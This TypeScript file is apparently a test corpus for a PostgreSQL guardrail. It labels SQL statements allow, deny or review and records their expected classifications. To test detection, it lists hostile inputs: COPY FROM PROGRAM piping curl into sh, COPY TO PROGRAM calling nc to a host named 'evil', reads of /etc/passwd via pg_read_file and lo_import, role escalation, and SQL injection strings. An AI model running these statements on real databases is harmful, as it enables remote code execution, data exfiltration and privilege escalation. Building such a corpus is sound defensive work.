/**
 * @module Corpus: COPY, dangerous built-in functions, run-time settings (role changes, and the two
 * settings that would make PostgreSQL read later statements differently), text that does not parse,
 * and the ordinary statements a guardrail must leave alone.
 */
import { unparsedCase as bad, type CorpusCase, corpusCase as c, entry as e } from './corpus-types.js';

const COPY: readonly CorpusCase[] = [
  c(
    'copy',
    "COPY t FROM PROGRAM 'curl http://x | sh'",
    'deny',
    e('sql.copy', { copyProgram: true, copyDirection: 'from', targets: ['t'] }),
  ),
  c(
    'copy',
    "COPY t TO PROGRAM 'nc evil 1234'",
    'deny',
    e('sql.copy', { copyProgram: true, copyDirection: 'to', copyFile: false }),
  ),
  c(
    'copy',
    'COPY t FROM STDIN',
    'allow',
    e('sql.copy', { copyStdio: true, copyDirection: 'from', copyProgram: false }),
  ),
  c(
    'copy',
    'COPY t TO STDOUT WITH (FORMAT csv)',
    'allow',
    e('sql.copy', { copyStdio: true, copyDirection: 'to', targets: [] }),
  ),
  c('copy', 'COPY (SELECT * FROM t) TO STDOUT', 'allow', e('sql.copy', { copyStdio: true }, ['t'])),
  c('copy', "COPY t TO '/tmp/out.csv'", 'allow', e('sql.copy', { copyFile: true, copyStdio: false })),
  c('copy', "COPY t FROM '/etc/passwd'", 'allow', e('sql.copy', { copyFile: true, copyDirection: 'from' })),
  c(
    'copy',
    'COPY (DELETE FROM t RETURNING *) TO STDOUT',
    'deny',
    e('sql.copy', { innerActions: ['sql.delete'] }),
    e('sql.delete', { bounded: false, embeddedIn: 'copy' }),
  ),
  c('copy', 'copy t from program $$id$$', 'deny', e('sql.copy', { copyProgram: true })),
  c('copy', 'COPY t (a) FROM STDIN WHERE a > 0', 'allow', e('sql.copy', { copyDirection: 'from' })),
];

const DANGEROUS_FUNCTIONS: readonly CorpusCase[] = [
  c(
    'dangerous-functions',
    "SELECT pg_read_file('/etc/passwd')",
    'allow',
    e('sql.select', { dangerousFunctions: ['pg_read_file'] }),
  ),
  c(
    'dangerous-functions',
    "SELECT lo_import('/etc/passwd')",
    'allow',
    e('sql.select', { dangerousFunctions: ['lo_import'] }),
  ),
  c(
    'dangerous-functions',
    'SELECT pg_terminate_backend(pid) FROM pg_stat_activity',
    'allow',
    e('sql.select', { dangerousFunctions: ['pg_terminate_backend'], callsUserFunction: false }, [
      'fn:pg_terminate_backend',
      'pg_stat_activity',
    ]),
  ),
  c(
    'dangerous-functions',
    'SELECT pg_sleep(5)',
    'allow',
    e('sql.select', { dangerousFunctions: ['pg_sleep'] }),
  ),
  c(
    'dangerous-functions',
    'SELECT pg_catalog.pg_reload_conf()',
    'allow',
    e('sql.select', { dangerousFunctions: ['pg_reload_conf'] }, ['fn:pg_catalog.pg_reload_conf']),
  ),
  c(
    'dangerous-functions',
    'SELECT lower(name), count(*) FROM t GROUP BY 1',
    'allow',
    e('sql.select', { dangerousFunctions: [], callsUserFunction: false }, ['fn:count', 'fn:lower', 't']),
  ),
  c(
    'dangerous-functions',
    'SELECT my_func(1)',
    'allow',
    e('sql.select', { callsUserFunction: true }, ['fn:my_func']),
  ),
  c(
    'dangerous-functions',
    "SELECT public.lower('x')",
    'allow',
    e('sql.select', { callsUserFunction: true }, ['fn:public.lower']),
  ),
  c(
    'dangerous-functions',
    'SELECT "pg_read_file"(\'/x\')',
    'allow',
    e('sql.select', { dangerousFunctions: ['pg_read_file'] }),
  ),
  c(
    'dangerous-functions',
    "SELECT * FROM pg_ls_dir('.')",
    'allow',
    e('sql.select', { dangerousFunctions: ['pg_ls_dir'] }),
  ),
  c(
    'dangerous-functions',
    "SELECT lo_export(lo_from_bytea(0, 'x'), '/tmp/x')",
    'allow',
    e('sql.select', { dangerousFunctions: ['lo_export'] }),
  ),
  c(
    'dangerous-functions',
    "SELECT extract(year FROM now()), trim(' x '), current_user",
    'allow',
    e('sql.select', { callsUserFunction: false }, ['fn:btrim', 'fn:extract', 'fn:now']),
  ),
];

const SETTINGS: readonly CorpusCase[] = [
  c('settings', 'SET ROLE admin', 'allow', e('sql.set', { setsRole: true, settings: ['role'] })),
  c(
    'settings',
    'SET SESSION AUTHORIZATION postgres',
    'allow',
    e('sql.set', { setsRole: true, settings: ['session_authorization'] }),
  ),
  c(
    'settings',
    "SELECT set_config('role', 'admin', false)",
    'allow',
    e('sql.select', { setsRole: true, dangerousFunctions: ['set_config'], settings: ['role'] }),
  ),
  c('settings', 'RESET ROLE', 'allow', e('sql.set', { setsRole: true })),
  bad('settings', 'SET standard_conforming_strings = off'),
  c(
    'settings',
    'SET standard_conforming_strings = on',
    'allow',
    e('sql.set', { settings: ['standard_conforming_strings'] }),
  ),
  bad('settings', "SET client_encoding = 'SJIS'"),
  c('settings', "SET NAMES 'UTF8'", 'allow', e('sql.set', { settings: ['client_encoding'] })),
  bad('settings', "SELECT set_config('standard_conforming_strings', 'off', false)"),
  c(
    'settings',
    "SELECT set_config(name, 'x', false) FROM t",
    'deny',
    e('sql.select', { dynamicSql: true, setsRole: true, settings: ['*'] }),
  ),
  c(
    'settings',
    'SET default_transaction_read_only = off',
    'allow',
    e('sql.set', { settings: ['default_transaction_read_only'], readWrite: true }),
  ),
  c(
    'settings',
    'BEGIN READ WRITE',
    'allow',
    e('sql.transaction', { transactionKind: 'begin', readWrite: true }),
  ),
  c(
    'settings',
    "SET statement_timeout = '5s'",
    'allow',
    e('sql.set', { setsRole: false, settings: ['statement_timeout'] }),
  ),
  c('settings', 'SHOW search_path', 'allow', e('sql.show')),
  bad('settings', 'ALTER SYSTEM SET standard_conforming_strings = off'),
  c('settings', 'DISCARD ALL', 'allow', e('sql.discard', { setsRole: true, settings: ['all'] })),
  c(
    'settings',
    'ALTER ROLE bob SET role = admin',
    'deny',
    e('sql.alter', { setsRole: true, settings: ['role'] }),
  ),
];

const UNPARSED: readonly CorpusCase[] = [
  bad('unparsed', 'DROP TABLE'),
  bad('unparsed', 'SELEC 1'),
  bad('unparsed', 'SELECT 1\u0000; DROP TABLE t'),
  bad('unparsed', "'; DROP TABLE t; --"),
  bad('unparsed', '\\d t'),
  bad('unparsed', 'SELECT * FROM t WHERE'),
  c('unparsed', '', 'allow'),
  c('unparsed', '-- only a comment', 'allow'),
];

const PLAIN: readonly CorpusCase[] = [
  c(
    'plain',
    'SELECT * FROM t WHERE id = 1',
    'allow',
    e('sql.select', { multiStatement: 1, statementIndex: 0 }, ['t']),
  ),
  c('plain', "INSERT INTO t (id, name) VALUES (101, 'x')", 'allow', e('sql.insert', { targets: ['t'] })),
  c('plain', "UPDATE t SET name = 'y' WHERE id = 1", 'review', e('sql.update', { bounded: true })),
  c(
    'plain',
    'SELECT count(*) FROM t JOIN u ON u.tid = t.id',
    'allow',
    e('sql.select', {}, ['fn:count', 't', 'u']),
  ),
  c('plain', 'VALUES (1), (2)', 'allow', e('sql.select')),
  c('plain', 'TABLE t', 'allow', e('sql.select', {}, ['t'])),
  c('plain', 'SHOW ALL', 'allow', e('sql.show')),
  c('plain', 'BEGIN; SELECT 1; COMMIT', 'allow', e('sql.transaction'), e('sql.select'), e('sql.transaction')),
  c('plain', 'LISTEN ch', 'allow', e('sql.listen')),
  c('plain', 'VACUUM t', 'allow', e('sql.vacuum', {}, ['t'])),
  c('plain', 'CREATE TEMP TABLE tmp AS SELECT 1', 'allow', e('sql.create', { targets: ['tmp'] })),
  c('plain', 'SELECT * FROM t FOR UPDATE', 'allow', e('sql.select', { rowLocks: true })),
  c(
    'plain',
    'INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 1',
    'allow',
    e('sql.insert', { upsert: true }),
  ),
  c(
    'plain',
    'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a',
    'review',
    e('sql.merge', { innerActions: ['sql.update'], targets: ['t'], bounded: true }, ['s', 't']),
  ),
  c(
    'plain',
    'MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)',
    'allow',
    e('sql.merge', { innerActions: ['sql.insert'] }),
  ),
  c('plain', 'DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t', 'allow', e('sql.cursor', {}, ['t'])),
  c('plain', 'ANALYZE t', 'allow', e('sql.analyze')),
  c('plain', 'LOCK TABLE t IN SHARE MODE', 'allow', e('sql.lock', {}, ['t'])),
  c('plain', 'SET CONSTRAINTS ALL DEFERRED', 'allow', e('sql.utility')),
  c('plain', 'CHECKPOINT', 'allow', e('sql.checkpoint')),
  c('plain', 'REFRESH MATERIALIZED VIEW mv', 'allow', e('sql.refresh', { targets: ['mv'] })),
];

/** COPY, dangerous functions, settings, unparsable text, ordinary statements. */
export const HAZARD_CASES: readonly CorpusCase[] = [
  ...COPY,
  ...DANGEROUS_FUNCTIONS,
  ...SETTINGS,
  ...UNPARSED,
  ...PLAIN,
];
